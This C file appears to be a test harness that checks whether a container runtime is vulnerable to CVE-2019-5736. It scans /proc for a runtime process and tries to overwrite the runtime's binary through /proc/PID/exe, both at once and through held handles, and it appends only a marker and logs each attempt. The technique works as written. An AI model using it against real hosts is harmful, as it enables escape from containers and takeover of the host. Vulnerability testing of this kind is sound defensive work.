/* CVE-2019-5736 attacker for t_core_cve_2019_5736.sh, run inside a container with
 * CAP_SYS_PTRACE and CAP_SYS_ADMIN: for SECONDS it scans /proc for processes running a binary
 * whose name holds "rtrun" (the runtime entering the container: exec's child, the init of a
 * container joining this pid namespace) and tries to write that binary, both at once
 * (open /proc/PID/exe for writing) and the classic way (keep an O_PATH handle, reopen it for
 * writing through /proc/self/fd once the runtime has exited, for about a second). Every
 * attempt that gets a writable handle appends a marker. Prints one line per event and a summary to
 * REPORT: seen PID TARGET | write-open PID TARGET | wrote PID TARGET | summary seen=N open=N
 * wrote=N */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 1024

struct held {
        int fd;
        pid_t pid;
        int rounds; /* reopen attempts so far: given up after MAX_ROUNDS (about a second) */
        char target[256];
};

#define MAX_ROUNDS 300

static struct held held[MAX_HELD];
static int n_held, n_seen, n_open, n_wrote;
static FILE *report;
static char tracked[1 << 16]; /* pids already looked at (pid_max is wider; modulo is fine) */

static void try_write(int fd, pid_t pid, const char *target)
{
        n_open++;
        fprintf(report, "write-open %d %s\n", (int)pid, target);
        static const char marker[] = "\nCVE-2019-5736 was here\n";
        if (write(fd, marker, sizeof(marker) - 1) > 0) {
                n_wrote++;
                fprintf(report, "wrote %d %s\n", (int)pid, target);
        }
        fflush(report);
}

/* The file an fd refers to: what the runtime's pid pointed at when it was opened (the pid
 * may have exec'd something else between a readlink of /proc/PID/exe and the open). */
static void fd_target(int fd, char *target, size_t size)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, size - 1);
        target[n > 0 ? n : 0] = '\0';
}

static void look_at(pid_t pid)
{
        char path[64], target[256];
        snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
                return;
        fd_target(fd, target, sizeof(target));
        if (strstr(target, "rtrun") == NULL || n_held >= MAX_HELD) {
                close(fd);
                return;
        }
        n_seen++;
        fprintf(report, "seen %d %s\n", (int)pid, target);
        fflush(report);
        /* at once, while the runtime runs */
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
                try_write(w, pid, target);
                close(w);
        }
        held[n_held++] = (struct held){.fd = fd, .pid = pid};
        snprintf(held[n_held - 1].target, sizeof(held[0].target), "%s", target);
}

static void scan(void)
{
        DIR *d = opendir("/proc");
        if (d == NULL)
                return;
        pid_t self = getpid();
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
                char *end;
                long pid = strtol(de->d_name, &end, 10);
                if (*end != '\0' || pid <= 0 || pid == self)
                        continue;
                /* the runtime's process changes its exe at execve: look again each round
                 * until it is seen running rtrun, then never again */
                if (tracked[pid & 0xffff])
                        continue;
                int before = n_seen;
                look_at((pid_t)pid);
                if (n_seen > before)
                        tracked[pid & 0xffff] = 1;
        }
        closedir(d);
}

static void reopen_held(void)
{
        for (int i = 0; i < n_held; i++) {
                if (held[i].fd < 0)
                        continue;
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
                int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (w < 0 && ++held[i].rounds < MAX_ROUNDS)
                        continue; /* ETXTBSY while it runs: again next round */
                if (w >= 0) {
                        try_write(w, held[i].pid, held[i].target);
                        close(w);
                }
                /* each handle pins a copy of the runtime in memory: let it go */
                close(held[i].fd);
                held[i].fd = -1;
        }
}

int main(int argc, char **argv)
{
        if (argc != 3) {
                fprintf(stderr, "usage: %s SECONDS REPORT\n", argv[0]);
                return 2;
        }
        report = fopen(argv[2], "w");
        if (report == NULL) {
                perror(argv[2]);
                return 1;
        }
        time_t end = time(NULL) + atoi(argv[1]);
        while (time(NULL) < end) {
                scan();
                reopen_held();
        }
        fprintf(report, "summary seen=%d open=%d wrote=%d\n", n_seen, n_open, n_wrote);
        fclose(report);
        return 0;
}
